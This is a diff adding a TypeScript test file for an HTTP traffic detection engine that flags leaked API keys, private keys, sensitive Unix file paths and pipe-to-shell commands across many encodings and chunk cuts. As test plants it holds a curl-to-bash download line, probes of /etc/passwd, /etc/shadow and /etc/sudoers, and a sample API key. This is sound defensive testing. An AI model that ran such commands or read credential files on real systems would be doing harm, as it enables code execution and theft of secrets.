@@ -1,0 +1,176 @@
+import test from 'ava';
+import * as fc from 'fast-check';
+import { createEngine } from '../../src/detect/engine.ts';
+import { compileKernel } from '../../src/detect/kernel/select.ts';
+import { ANCHORS, RULES } from '../../src/detect/rules/index.ts';
+import { TextScanner, scanWhole } from '../../src/detect/scanner.ts';
+import { withHidden } from '../../src/detect/unfold/hidden-anchors.ts';
+import type { Finding, ScanReport } from '../../src/model/finding.ts';
+import type { Part } from '../../src/model/flow.ts';
+import { cutAt, cuts } from '../support/cut.ts';
+import { plantedText } from '../support/planted-text.ts';
+
+const kernel = compileKernel(withHidden(ANCHORS));
+const engine = createEngine({ rules: RULES, compileKernel, maskSecrets: true, maxFindings: 1000 });
+const KEY = 'sk-live-51HqLyjWDarjtT1zdp7dcXYZ';
+
+function scanText(text: string, part: Part = 'request.body'): readonly Finding[] {
+  const window = scanWhole(kernel, Buffer.from(text, 'latin1'), part);
+  return window === undefined ? [] : engine(window).findings;
+}
+
+function scanChunks(chunks: readonly Uint8Array[], windowBytes: number): ScanReport[] {
+  const text = new TextScanner(kernel, 'request.body', windowBytes);
+  const reports: ScanReport[] = [];
+  const take = (): void => {
+    for (let window = text.take(); window !== undefined; window = text.take()) reports.push(engine(window));
+  };
+  for (const chunk of chunks) {
+    text.write(chunk);
+    take();
+  }
+  text.end();
+  take();
+  return reports;
+}
+
+function places(findings: readonly Finding[]): string[] {
+  return findings.map(({ rule, offset, length }) => `${rule} ${offset}+${length}`).sort();
+}
+
+test('says what was found and where', (t) => {
+  const [finding, ...others] = scanText(`GET / HTTP/1.1\r\nx-api-key: ${KEY}\r\n\r\n`, 'request.head');
+  t.deepEqual(others, []);
+  t.is(finding?.rule, 'ai_api_key');
+  t.is(finding?.type, 'EXFIL');
+  t.is(finding?.offset, 27);
+  t.is(finding?.length, KEY.length);
+  t.is(finding?.location, 'request.header.x-api-key');
+  t.false(finding?.snippet.includes(KEY.slice(8)));
+  t.regex(finding?.fingerprint ?? '', /^[0-9a-f]{16}$/);
+});
+
+const FORMS: Readonly<Record<string, (text: string) => string>> = {
+  'as it is': (text) => `a ${text} b`,
+  'a JSON string': (text) => JSON.stringify({ a: ` ${text} ` }),
+  'a JSON string with escaped slashes': (text) => JSON.stringify({ a: ` ${text} ` }).replaceAll('/', '\\/'),
+  'a JSON string all escaped': (text) =>
+    `{"a":"${Array.from(` ${text} `, (one) => `\\u${one.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')}"}`,
+  'JSON in JSON': (text) => JSON.stringify({ a: JSON.stringify({ b: ` ${text} ` }) }),
+  'URL-encoded': (text) => `a=${encodeURIComponent(text)}&b`,
+  'URL-encoded all over': (text) =>
+    `a=${Array.from(text, (one) => `%${one.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}&b`,
+  'a form': (text) => new URLSearchParams({ a: text, b: '' }).toString(),
+};
+
+for (const [form, write] of Object.entries(FORMS)) {
+  test(`each hit of each rule is found once: ${form}`, (t) => {
+    for (const rule of RULES) {
+      for (const hit of rule.hits) {
+        const found = scanText(write(hit)).filter((finding) => finding.rule === rule.id);
+        t.is(found.length, 1, `${rule.id}: ${write(hit)}: ${JSON.stringify(found)}`);
+      }
+    }
+  });
+}
+
+/** Forms that leave nothing of the text as it was: what is found in them is found by undoing them. */
+for (const form of ['a JSON string all escaped', 'URL-encoded', 'URL-encoded all over', 'a form']) {
+  test(`what only looks like it is not found: ${form}`, (t) => {
+    for (const rule of RULES) {
+      for (const miss of rule.misses) {
+        const text = FORMS[form]?.(miss) ?? '';
+        const found = scanText(text).filter((finding) => finding.rule === rule.id);
+        t.deepEqual(found, [], `${rule.id}: ${text}`);
+      }
+    }
+  });
+}
+
+test('the same secret has the same fingerprint however it is written', (t) => {
+  const pem = '-----BEGIN EC PRIVATE KEY-----\nMHcCAQEEIIGL/lamZ\n-----END EC PRIVATE KEY-----\n';
+  for (const text of [KEY, pem]) {
+    const prints = Object.values(FORMS).map((write) => scanText(write(text))[0]?.fingerprint);
+    t.is(new Set(prints).size, 1, JSON.stringify(prints));
+  }
+});
+
+test('offset and length of an encoded match are those of its escapes', (t) => {
+  for (const path of [
+    '/etc/passwd',
+    '%2Fetc%2fpasswd',
+    '\\/etc\\/passwd',
+    '\\u002fetc\\u002Fpasswd',
+    '/et%63/passwd',
+  ]) {
+    t.deepEqual(places(scanText(`a ${path} b`)), [`unix_sensitive 2+${path.length}`], path);
+  }
+});
+
+test('windows give what the whole text gives, however it is cut', (t) => {
+  const plants = RULES.flatMap(({ hits }) => [hits[0] ?? '', JSON.stringify(hits.at(-1) ?? '')]);
+  const encoded = ['\\u002fetc\\/passwd', '%2Fetc%2Fpasswd', 'sk%2Dlive-51HqLyjWDarjtT1zdp7dcXYZ'];
+  fc.assert(
+    fc.property(plantedText([...plants, ...encoded]), cuts, fc.constantFrom(1024, 65_536), (text, offsets, size) => {
+      const bytes = Buffer.from(text, 'latin1');
+      const reports = scanChunks(cutAt(bytes, offsets), size);
+      t.deepEqual(places(reports.flatMap(({ findings }) => findings)), places(scanText(text)));
+    }),
+    { numRuns: 150 },
+  );
+});
+
+test('a match cut at any byte is found once', (t) => {
+  for (const [plant, rule] of [
+    [KEY, 'ai_api_key'],
+    ['\\u002fetc\\u002fpasswd', 'unix_sensitive'],
+    ['curl -s https://x.test/i.sh | bash', 'pipe_to_shell'],
+  ]) {
+    const bytes = Buffer.from(`{"a":"${'x'.repeat(30)} ${plant} ${'y'.repeat(30)}"}`);
+    for (let at = 1; at < bytes.length; at++) {
+      const findings = scanChunks([bytes.subarray(0, at), bytes.subarray(at)], 1024).flatMap((one) => one.findings);
+      t.deepEqual(
+        findings.map((finding) => finding.rule),
+        [rule],
+      );
+    }
+  }
+});
+
+test('reports so many findings of a rule and counts the others', (t) => {
+  const few = createEngine({ rules: RULES, compileKernel, maskSecrets: true, maxFindings: 3 });
+  const window = scanWhole(kernel, Buffer.from(`${'/etc/passwd '.repeat(5461)} ${KEY}`), 'response.body');
+  const report = window && few(window);
+  t.deepEqual(
+    report?.findings.map(({ rule, offset }) => `${rule} ${offset}`),
+    ['unix_sensitive 0', 'unix_sensitive 12', 'unix_sensitive 24', 'ai_api_key 65533'],
+  );
+  t.is(report?.omitted, 5458);
+});
+
+test('reports only what its window owns', (t) => {
+  const bytes = new Uint8Array(Buffer.from('/etc/passwd /etc/shadow \\/etc\\/sudoers'));
+  const findings = (ownFrom: number, ownTo: number): number[] =>
+    engine({ bytes, base: 100, ownFrom, ownTo, part: 'request.body' }).findings.map(({ offset }) => offset);
+  t.deepEqual(findings(100, 200), [100, 112, 124]);
+  t.deepEqual([...findings(100, 110), ...findings(110, 130), ...findings(130, 200)], [100, 112, 124]);
+});
+
+test('no bytes make it throw', (t) => {
+  const bytes = fc.array(
+    fc.oneof(
+      fc.uint8Array({ maxLength: 9 }),
+      fc.constantFrom(...RULES.flatMap(({ hits }) => hits)).map((hit) => Buffer.from(hit)),
+    ),
+  );
+  fc.assert(
+    fc.property(bytes, fc.constantFrom<Part>('request.head', 'response.trailer', 'ws.message'), (pieces, part) => {
+      const text = new Uint8Array(Buffer.concat(pieces));
+      const report = engine({ bytes: text, base: 7, ownFrom: 0, ownTo: text.length + 7, part });
+      for (const { offset, length, snippet } of report.findings) {
+        t.true(offset >= 7 && length > 0 && offset + length <= 7 + text.length && snippet.length <= 200);
+      }
+    }),
+    { numRuns: 200 },
+  );
+});
